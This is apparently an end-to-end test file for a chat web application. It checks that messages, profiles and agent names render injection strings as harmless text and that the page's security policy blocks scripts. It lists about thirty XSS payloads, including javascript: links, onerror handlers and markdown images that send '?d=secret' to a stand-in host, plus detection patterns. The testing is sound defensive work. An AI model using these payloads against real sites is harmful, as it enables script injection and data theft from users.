import type { Page } from 'playwright-core';
import { DESKTOP } from '../../support/browser/browser.js';
import { UiWorld } from '../../support/browser/ui-world.js';
import type { WebPerson } from '../../support/server/people/web-person.js';

const EVIL = 'evil.example';
/** Script injections that have worked in some chat application. */
const TRICKS = [
  '[a](javascript:alert(1))',
  '[b](JaVa\tscript:alert(1))',
  '[c](java&#x0A;script:alert(1))',
  '[d](data:text/html,<script>alert(1)</script>)',
  '[e](vbscript:alert(1))',
  '[f](file:///etc/passwd)',
  '<javascript:alert(1)>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<script>alert(1)</script>',
  `<iframe src="https://${EVIL}/frame"></iframe>`,
  '<a href="javascript:alert(1)" onclick="alert(1)">g</a>',
  `<form action="https://${EVIL}/form"><button>h</button></form>`,
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  `<link rel=stylesheet href=//${EVIL}/style.css><meta http-equiv=refresh content="0;url=https://${EVIL}/">`,
  `<style>@import url(//${EVIL}/import.css)</style>`,
  '$$\\href{javascript:alert(1)}{x}$$ $\\unicode{<img src=x onerror=alert(1)>}$',
  '```mermaid\ngraph TD; A["<img src=x onerror=alert(1)>"]; click A "javascript:alert(1)"\n```',
  '```html\n<img src=x onerror=alert(1)>\n```',
  `[slashes](//${EVIL}/link)`,
  `![x](https://${EVIL}/?d=secret)`,
  `![x][ref]\n\n[ref]: https://${EVIL}/reference?d=secret`,
  `<picture><source srcset="https://${EVIL}/set"><img src="https://${EVIL}/img"></picture>`,
  `https://${EVIL}/autolink?<script>`,
  'mailto:ann@example.com and www.example.com/<b>',
  '[title](https://example.com "x" onmouseover="alert(1)")',
  '[^1]\n\n[^1]: <img src=x onerror=alert(1)> [n](javascript:alert(1))',
  '[the last one](https://example.com/last)',
];
const SHORT = '<img src=x onerror=alert(1)>"\'><b>';

jest.setTimeout(120_000);

let world: UiWorld;
let person: WebPerson;
/** Hosts that a page called, other than Regent. */
let calls: string[];
let dialogs: number;

beforeAll(async () => {
  world = await UiWorld.start();
  person = await world.person();
}, 120_000);
afterAll(() => world?.stop());
beforeEach(() => {
  calls = [];
  dialogs = 0;
});
afterEach(() => world.closePages());

async function open(path: string): Promise<Page> {
  const page = await world.page(DESKTOP, person);
  page.on('request', (request) => {
    const { protocol, host } = new URL(request.url());
    if (/^(https?|wss?):$/.test(protocol) && host !== new URL(world.url).host) calls.push(request.url());
  });
  page.on('dialog', (dialog) => {
    dialogs += 1;
    void dialog.dismiss();
  });
  await page.goto(path);
  return page;
}

/** Everything in the page that could run, and every link to a forbidden scheme. */
const dangersOf = (page: Page): Promise<string[]> =>
  page.evaluate(() => {
    const dangers: string[] = [];
    for (const element of document.querySelectorAll('*')) {
      for (const { name, value } of element.attributes) {
        if (name.startsWith('on')) dangers.push(`${element.tagName} ${name}=${value}`);
        if (/^\s*(javascript|vbscript|data:text)/i.test(value)) dangers.push(`${element.tagName} ${name}=${value}`);
      }
    }
    for (const link of document.querySelectorAll<HTMLAnchorElement>('main a[href]')) {
      if (!/^(https?|mailto):$/.test(link.protocol)) dangers.push(`a link to ${link.href}`);
      const isAway = link.origin !== location.origin;
      if (isAway && link.protocol !== 'mailto:' && !/noopener.*noreferrer/.test(link.rel))
        dangers.push(`rel of ${link.href}`);
    }
    for (const foreign of document.querySelectorAll(
      'main iframe, main form[action^="http"], main object, main embed',
    )) {
      dangers.push(foreign.outerHTML);
    }
    return dangers;
  });

async function expectHarmless(page: Page): Promise<void> {
  await page.waitForLoadState('networkidle');
  expect(await dangersOf(page)).toEqual([]);
  expect(calls).toEqual([]);
  expect(dialogs).toBe(0);
}

it('[case 40] [case 41] messages of agents and users run no scripts and make no requests, during and after a stream', async () => {
  const { chatId, agent } = await world.chatOf(person);
  const text = TRICKS.join('\n\n');
  world.host.behave(agent.id, {
    kind: 'stream',
    pieces: text.match(/[\s\S]{1,40}/g) ?? [],
    intervalMs: 10,
  });
  const page = await open(`/conversations/${chatId}`);
  await page.getByRole('textbox', { name: 'Message', exact: true }).waitFor();
  await person.call('POST', `/api/chat/${chatId}/message/`, { message: text });
  const messages = page.getByRole('region', { name: 'Messages' });
  await messages.getByRole('link', { name: 'the last one' }).waitFor({ timeout: 30_000 });
  await page.getByRole('button', { name: 'Send', exact: true }).waitFor();
  await expectHarmless(page);
  // Intended links stay clickable.
  for (const name of ['a', 'b', 'c', 'd', 'e', 'g', 'h']) {
    const link = messages.getByText(name, { exact: true });
    if ((await link.count()) > 0)
      await link
        .first()
        .click({ timeout: 3000, noWaitAfter: true })
        .catch(() => undefined);
  }
  await expectHarmless(page);
  await page.reload();
  await messages.getByRole('link', { name: 'the last one' }).waitFor({ timeout: 30_000 });
  await expectHarmless(page);
});

it('[case 40] names, texts and titles of every kind are rendered as text', async () => {
  const agent = await person.call<{ id: number; created_by: { id: number } }>('POST', '/api/studio/agent/', {
    name: `A ${SHORT}`,
    type: SHORT,
    short_description: SHORT,
    description: TRICKS.join('\n').slice(0, 900),
    welcome_message: SHORT,
    skills: [{ name: SHORT }],
  });
  await person.call('PATCH', `/api/studio/agent/${agent.id}/`, { status: 'ready' });
  await person.call('PATCH', '/api/account/me/', {
    first_name: SHORT,
    last_name: SHORT,
    bio: TRICKS.join(' ').slice(0, 900),
  });
  await person.call('POST', '/api/studio/persona/', { name: SHORT, description: SHORT });
  await person.call('POST', '/api/studio/databank/base/', {
    name: SHORT,
    chapters: [{ title: SHORT, content: SHORT }],
  });
  const chat = await person.call<{ id: number }>('POST', '/api/chat/', { agent_id: agent.id, name: SHORT });
  const me = await person.call<{ id: number }>('GET', '/api/account/me/');
  const paths = [
    '/',
    `/agent/${agent.id}`,
    `/creator/${me.id}`,
    `/conversations/${chat.id}`,
    '/personal?tab=agents',
    '/personal?tab=personas',
    '/personal?tab=knowledge',
    '/personal?tab=profile',
    `/?search=${encodeURIComponent(SHORT)}`,
  ];
  for (const path of paths) {
    const page = await open(path);
    await page.getByRole('main').waitFor();
    await expectHarmless(page);
    await page.close();
  }
});

it('[case 40] the page policy blocks injected scripts', async () => {
  const page = await open('/');
  await page.getByRole('main').waitFor();
  const violated = await page.evaluate(async () => {
    const violation = new Promise<string>((done) => {
      document.addEventListener('securitypolicyviolation', (event) => done(event.effectiveDirective));
    });
    const image = document.createElement('div');
    image.innerHTML = '<img src="/nothing.png" onerror="document.title = \'ran\'">';
    document.body.append(image);
    const directive = await violation;
    return `${directive} ${document.title.includes('ran')}`;
  });
  expect(violated).toMatch(/^script-src(-attr)? false$/);
});
